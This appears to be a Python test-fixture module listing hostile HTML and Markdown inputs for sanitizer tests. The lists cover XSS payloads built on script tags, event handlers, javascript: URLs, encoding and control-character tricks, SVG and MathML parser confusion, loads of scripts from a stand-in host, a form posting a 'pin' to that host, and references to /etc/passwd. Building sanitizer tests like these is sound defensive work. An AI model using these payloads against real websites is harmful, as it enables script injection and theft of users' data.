"""Hostile HTML, written for these tests: each line tries one way to run, style, frame, submit, fetch or
fool a parser. `EVIL` stands for what must never run, `evil.test` for a host that must never be asked."""

from __future__ import annotations

SCRIPTS = r"""
<script>EVIL()</script>
<SCRIPT SRC=//evil.test/x.js></SCRIPT>
<script/x>EVIL()</script>
<script
>EVIL()</script
>
<scr<script>ipt>EVIL()</scr</script>ipt>
<<script>EVIL()//<</script>
<script src="data:text/javascript,EVIL()"></script>
<script type="module">import "//evil.test/x.js"</script>
<script>/*</script><script>*/EVIL()</script>
<script type="text/plain">x</script><p>y</p>
<noscript><p title="</noscript><img src=x onerror=EVIL()>">
<template><script>EVIL()</script></template>
<template shadowrootmode=open><img src=x onerror=EVIL()></template>
""".strip().split("\n")

HANDLERS = r"""
<img src=x onerror=EVIL()>
<img src=x OnErRoR=EVIL()>
<img/src=x/onerror=EVIL()>
<img src="x"onerror="EVIL()">
<img src='x'onerror='EVIL()'>
<img src=`x`onerror=EVIL()>
<img src=x onerror	=	EVIL()>
<img src=x on error=EVIL()>
<img alt="<img src=x onerror=EVIL()>" src=x>
<img title="a&quot; onerror=EVIL() x=&quot;" src=x>
<p onclick=EVIL()>x</p>
<p/onclick=EVIL()>x</p>
<p onclick="&#69;VIL()">x</p>
<a href="#x" onmouseover=EVIL()>x</a>
<a href="#x" onfocus=EVIL() autofocus tabindex=0>x</a>
<div class="table-scroll" tabindex="0" onfocus="EVIL()" autofocus>x</div>
<details open ontoggle=EVIL()><summary>x</summary></details>
<body onload=EVIL()>
<audio controls src=x onerror=EVIL()>
<audio src=x oncanplay=EVIL() autoplay>
<video><source onerror=EVIL()></video>
<marquee onstart=EVIL()>x</marquee>
<input onfocus=EVIL() autofocus>
<select onfocus=EVIL() autofocus><option>x</select>
<textarea onfocus=EVIL() autofocus>
<keygen onfocus=EVIL() autofocus>
<x onpointerenter=EVIL()>x</x>
<p style="animation-name:x" onanimationstart=EVIL()>x</p>
<li onbeforecopy=EVIL()>x</li>
<td onwheel=EVIL()>x</td>
<bdi oncontextmenu=EVIL()>x</bdi>
<aside class="box box-note" role="note" onclick="EVIL()">x</aside>
""".strip().split("\n")

ADDRESSES = r"""
<a href="javascript:EVIL()">x</a>
<a href=" javascript:EVIL()">x</a>
<a href="&#1;javascript:EVIL()">x</a>
<a href="java&#9;script:EVIL()">x</a>
<a href="java&#10;script:EVIL()">x</a>
<a href="java&#13;script:EVIL()">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;EVIL()">x</a>
<a href="&#x6A;avascript&#x3a;EVIL()">x</a>
<a href="&#0000106avascript:EVIL()">x</a>
<a href="javascript&colon;EVIL()">x</a>
<a href="jav&Tab;ascript:EVIL()">x</a>
<a href="jav&NewLine;ascript:EVIL()">x</a>
<a href="JaVaScRiPt:EVIL()">x</a>
<a href="javascript://evil.test/%0aEVIL()">x</a>
<a href="vbscript:EVIL()">x</a>
<a href="data:text/html,<script>EVIL()</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5FVklMKCk8L3NjcmlwdD4=">x</a>
<a href="blob:https://evil.test/x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="view-source:javascript:EVIL()">x</a>
<a href="feed:javascript:EVIL()">x</a>
<a href="http://evil.test/">x</a>
<a href="//evil.test/">x</a>
<a href="/\evil.test/">x</a>
<a href="\\evil.test\x">x</a>
<a href="/&#9;/evil.test/">x</a>
<a href="https:evil.test">x</a>
<a href="///evil.test">x</a>
<a href="/%09/evil.test">x</a>
<a href="mailto:a@evil.test">x</a>
<a href="tel:123">x</a>
<a href="intent://evil.test#Intent;end">x</a>
<a href="?next=//evil.test">x</a>
<a href="x?y=javascript:EVIL()">x</a>
<a href="#x" target="_blank">x</a>
<a href="#x" ping="//evil.test">x</a>
<a href="x" download="evil.exe">x</a>
<a href="" id="x" name="y" class="z">x</a>
<a xlink:href="javascript:EVIL()">x</a>
<area href="javascript:EVIL()">
<base href="javascript:EVIL()//">
<base href="//evil.test/"><a href="x">y</a>
<link rel=stylesheet href=//evil.test/x.css>
<link rel="prefetch" href="//evil.test">
<link rel=import href="data:text/html,x">
<meta http-equiv=refresh content="0;url=//evil.test">
<meta http-equiv="Set-Cookie" content="x=y">
<meta charset=utf-7>+ADw-script+AD4-EVIL()+ADw-/script+AD4-
<form action="javascript:EVIL()"><button>x</button></form>
<form action=//evil.test><input name=pin></form>
<button form=x formaction="javascript:EVIL()">x</button>
<isindex action="javascript:EVIL()" type=image>
<input type=image src=//evil.test/x.png>
<object data="javascript:EVIL()"></object>
<object data="//evil.test/x.swf"><param name=x></object>
<embed src="//evil.test/x.swf">
<applet code=x codebase=//evil.test></applet>
<iframe src="javascript:EVIL()"></iframe>
<iframe srcdoc="<script>EVIL()</script>"></iframe>
<frameset><frame src="javascript:EVIL()"></frameset>
<portal src="//evil.test"></portal>
""".strip().split("\n")

PICTURES = r"""
<img src="//evil.test/x.png">
<img src="http://evil.test/x.png">
<img src="https:evil.test/x.png">
<img src="data:image/svg+xml,<svg onload=EVIL()>">
<img src="javascript:EVIL()">
<img src="/\evil.test/x.png">
<img src="\\evil.test\x.png">
<img src="fig/x.png?//evil.test">
<img src="x.png" srcset="//evil.test/x.png 2x">
<img src="x.png" srcset="x.png 1x, https://evil.test/y.png 2x" sizes="100vw">
<img src="x.png" longdesc="//evil.test">
<img src="x.png" usemap="#m"><map name=m><area href=//evil.test></map>
<img src="x.png" dynsrc="//evil.test/x" lowsrc="//evil.test/y">
<img src="x.png" crossorigin referrerpolicy=unsafe-url>
<img src="x.png" ismap width=1 height=1 style="position:fixed">
<img src="x.php">
<img src="/sign-out">
<image src="x.png" onerror=EVIL()>
<picture><source srcset="//evil.test/x.png"><img src="x.png"></picture>
<audio src="//evil.test/x.opus" controls></audio>
<audio controls><source src="//evil.test/x.opus"></audio>
<audio controls src="x.opus"><track src="//evil.test/x.vtt"></audio>
<video poster="//evil.test/x.png" src="x.mp4"></video>
<table background="//evil.test/x.png"><tr><td background="//evil.test/y.png">x</table>
<body background="//evil.test/x.png">
""".strip().split("\n")

STYLES = r"""
<style>@import "//evil.test/x.css";</style>
<style>*{background:url(//evil.test/x.png)}</style>
<style><img src="</style><img src=x onerror=EVIL()>"></style>
<p style="background:url(//evil.test/x.png)">x</p>
<p style="width:expression(EVIL())">x</p>
<p style="-moz-binding:url(//evil.test/x.xml#x)">x</p>
<p style="position:fixed;inset:0;z-index:9">x</p>
<p style="behavior:url(x.htc)">x</p>
<p class="nav hidden" id="content" hidden>x</p>
<p contenteditable draggable=true accesskey=x>x</p>
<p data-action="delete" aria-hidden=true role=button>x</p>
<p slot=x is=x itemprop=x nonce=x>x</p>
<td colspan=9999 rowspan=9999 class="start hidden">x</td>
<ol start="-1" reversed type=a class=x><li value=9>x</ol>
<div lang="x" dir="auto" popover id=p>x</div>
<div class="table-scroll x">x</div>
<div style>x</div>
<font color=red size=7>x</font>
<center>x</center>
<dialog open>x</dialog>
<plaintext>x
<xmp><img src=x onerror=EVIL()></xmp>
<listing><img src=x onerror=EVIL()></listing>
""".strip().split("\n")

NAMESPACES = r"""
<svg onload=EVIL()>
<svg><script>EVIL()</script></svg>
<svg><script href="data:,EVIL()"/></svg>
<svg><a xlink:href="javascript:EVIL()"><text y=9>x</text></a></svg>
<svg><animate attributeName=href values="javascript:EVIL()"/></svg>
<svg><set attributeName=onmouseover to=EVIL()></svg>
<svg><use href="//evil.test/x.svg#x"/></svg>
<svg><image href="//evil.test/x.png"/></svg>
<svg><foreignObject><img src=x onerror=EVIL()></foreignObject></svg>
<svg><style><img src=x onerror=EVIL()></style></svg>
<svg><style><a id="</style><img src=x onerror=EVIL()>"></svg>
<svg><title><img src=x onerror=EVIL()></title></svg>
<svg><desc><p><style><img src=x onerror=EVIL()></style></p></desc></svg>
<svg></p><style><a id="</style><img src=1 onerror=EVIL()>">
<svg><p><style><g title="</style><img src=x onerror=EVIL()>">
<math><mtext><table><mglyph><style><img src=x onerror=EVIL()></style></mglyph></table></mtext></math>
<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=EVIL()&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=EVIL()></annotation-xml></math>
<math href="javascript:EVIL()">x</math>
<math><a xlink:href="javascript:EVIL()">x</a></math>
<math><mi//xlink:href="data:x,<script>EVIL()</script>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=EVIL()>
<xml:namespace prefix=t><t:set attributeName=innerHTML to="<img src=x onerror=EVIL()>">
<html xmlns:x="http://evil.test"><x:script>EVIL()</x:script></html>
""".strip().split("\n")

PARSERS = r"""
<!--><img src=x onerror=EVIL()>-->
<!--><!--<img src=x onerror=EVIL()>-->
<!-- --!><img src=x onerror=EVIL()>-->
<!-- > <img src=x onerror=EVIL()> -->
<![CDATA[<img src=x onerror=EVIL()>]]>
<!DOCTYPE html [<!ENTITY x "EVIL">]><p>&x;</p>
<?xml version="1.0"?><?import namespace=t implementation="#default#time2"?>
<?php EVIL(); ?>
<% EVIL() %>
{{ EVIL() }} {% include "/etc/passwd" %} ${EVIL()} #{EVIL()}
</p><img src=x onerror=EVIL()>
</div></main></body></html><img src=x onerror=EVIL()>
<p><p><p><a><a><a href="x"><table><a href="y">z
<a><table><a><table><a href=x>y
<table><p>x<tr><b>y<td><p>z</table>
<table><caption><img src=x onerror=EVIL()></caption></table>
<ul><p><li><ul></p><ol><li></ul>x
<b><i><p></b></i>x</p>
<em><p><em><div><em></p></em>x
<pre>

x</pre>
<h3><h4><p><h3>x</h4>
<p title="
<p title='<img src=x onerror=EVIL()>
<p title=`<img src=x onerror=EVIL()>`>
<p "onclick=EVIL()">x
<p/="/onclick=EVIL()"/>x
<p =onclick=EVIL()>x
<p x="&quot;><img src=x onerror=EVIL()>">y
<p x='&apos;><img src=x onerror=EVIL()>'>y
&lt;script&gt;EVIL()&lt;/script&gt;
&lt;img src=x onerror=EVIL()&gt;
&amp;lt;script&amp;gt;EVIL()
&#60;script&#62;EVIL()&#60;/script&#62;
&#x3c;img src=x onerror=EVIL()&#x3e;
&NotAnEntity; &amp &lt &copy &ltimes; &nbsp;&nbsp
&#0;&#x80;&#xD800;&#x110000;&#38;&#60;
<p>&lt;p onclick=EVIL()&gt;</p>
<noembed><img title="</noembed><img src=x onerror=EVIL()>"></noembed>
<noframes><img title="</noframes><img src=x onerror=EVIL()>"></noframes>
<textarea><img title="</textarea><img src=x onerror=EVIL()>"></textarea>
<title><img title="</title><img src=x onerror=EVIL()>"></title>
<select><style></select><img src=x onerror=EVIL()></style>
<option><style></option></select><img src=x onerror=EVIL()></style>
<iframe><img title="</iframe><img src=x onerror=EVIL()>"></iframe>
<ruby><rt><img src=x onerror=EVIL()></rt></ruby>
<p dir="rtl" lang="ar">x</p>
""".strip().split("\n")

CONTROLS = [
    "<img src=x onerror\x00=EVIL()>",
    "<scr\x00ipt>EVIL()</scr\x00ipt>",
    "<\x00script>EVIL()</script>",
    "<img\x0csrc=x\x0conerror=EVIL()>",
    "<img\x0bsrc=x onerror=EVIL()>",
    "<a href='java\x00script:EVIL()'>x</a>",
    "<a href='\x01javascript:EVIL()'>x</a>",
    "<a href='\u200bjavascript:EVIL()'>x</a>",
    "<a href='\u00a0javascript:EVIL()'>x</a>",
    "<a href='javascript\u2028:EVIL()'>x</a>",
    "<a href='\u3000javascript:EVIL()'>x</a>",
    "\ufeff<script>EVIL()</script>",
    "\uff1cscript\uff1eEVIL()\uff1c/script\uff1e",
    "<p>\u202eEVIL\u202c</p>",
    "<p>\ud7ff\ue000\ufffe\U0010ffff</p>",
    "<img src='x\u0000.png' onerror='EVIL()'>",
    "<a href='#x\r\nonclick=EVIL()'>x</a>",
    "<p \x85onclick=EVIL()>x</p>",
    "<ſcript>EVIL()</ſcript>",
    "<ıframe src=//evil.test>",
]

PAYLOADS = [*SCRIPTS, *HANDLERS, *ADDRESSES, *PICTURES, *STYLES, *NAMESPACES, *PARSERS, *CONTROLS]

MARKDOWN = [
    "[x](javascript:EVIL())",
    "[x](JaVaScRiPt:EVIL())",
    "[x](<javascript:EVIL()>)",
    "[x](java\\script:EVIL())",
    "[x](&#106;avascript:EVIL())",
    "[x](javascript&colon;EVIL())",
    "[x](java&Tab;script:EVIL())",
    "[x](data:text/html,<script>EVIL()</script>)",
    "[x](vbscript:EVIL())",
    "[x](//evil.test/y)",
    "[x](/\\evil.test)",
    "[x](http://evil.test/y)",
    '[x](#y" onclick="EVIL())',
    "[x](#y 'a\" onclick=\"EVIL()')",
    "![x](javascript:EVIL())",
    "![x](//evil.test/y.png)",
    "![x](http://evil.test/y.png)",
    '![x" onerror="EVIL()](fig/x.svg)',
    '![x](fig/x.svg" onerror="EVIL())',
    '![x](fig/x.svg "a" onerror="EVIL()")',
    '![<img src=x onerror=EVIL()>](fig/x.svg "<script>EVIL()</script>")',
    "<javascript:EVIL()>",
    '<http://evil.test/" onclick="EVIL()>',
    "<a@evil.test>",
    "http://evil.test/<script>EVIL()</script>",
    "`<script>EVIL()</script>`",
    "```html\n<script>EVIL()</script>\n```",
    "    <script>EVIL()</script>",
    '```" onclick="EVIL()\nx\n```',
    "# <script>EVIL()</script>",
    "> [!NOTE]\n> <script>EVIL()</script>",
    "> [!<script>EVIL()</script>]\n> x",
    "- [x] <img src=x onerror=EVIL()>",
    "| <script>EVIL()</script> | x |\n|---|---|\n| <img src=x onerror=EVIL()> | y |",
    "<b onclick=EVIL()>x</b>",
    "<b><img src=x onerror=EVIL()></b>",
    "<sub><script>EVIL()</script></sub>",
    "<sub>\n<img src=x onerror=EVIL()></sub>",
    "<br onclick=EVIL()>",
    "<br/onload=EVIL()>",
    "~~<script>EVIL()</script>~~",
    "*<img src=x onerror=EVIL()>*",
    "[<img src=x onerror=EVIL()>](#y)",
    "[x]: javascript:EVIL()\n\n[x]",
    "[x][y]\n\n[y]: http://evil.test",
    "<!-- --><img src=x onerror=EVIL()>",
    "<!--\n--> <script>EVIL()</script>",
    "a <!-- <script>EVIL()</script> --> b",
    "\\<script>EVIL()\\</script>",
    "<scr\\ipt>EVIL()",
    "*a <script* >EVIL()</script>",
    "**<script**>EVIL()</script>",
    '<a href="javascript:EVIL()">x</a>',
    "<div onclick=EVIL()>\n\nx\n\n</div>",
    "<iframe src=//evil.test></iframe>",
    "<form action=//evil.test><input name=pin></form>",
    "<style>*{background:url(//evil.test)}</style>",
    "<svg onload=EVIL()>",
    "&lt;script&gt;EVIL()&lt;/script&gt;",
    "&#60;script&#62;EVIL()&#60;/script&#62;",
    "\x02klzzwxh:0001\x03",
    "\x02wzxhzdk:0\x03<script>EVIL()</script>",
    "klzzwxh:0000 `<script>` wzxhzdk:0",
    "\ue0000\ue001 [[x]]",
    "![x](fig/../../../etc/passwd.svg)",
    "![x](/fig/x.svg)",
    "[x](../../admin)",
    "[x](/sign-out)",
    "[x](?delete=1)",
]
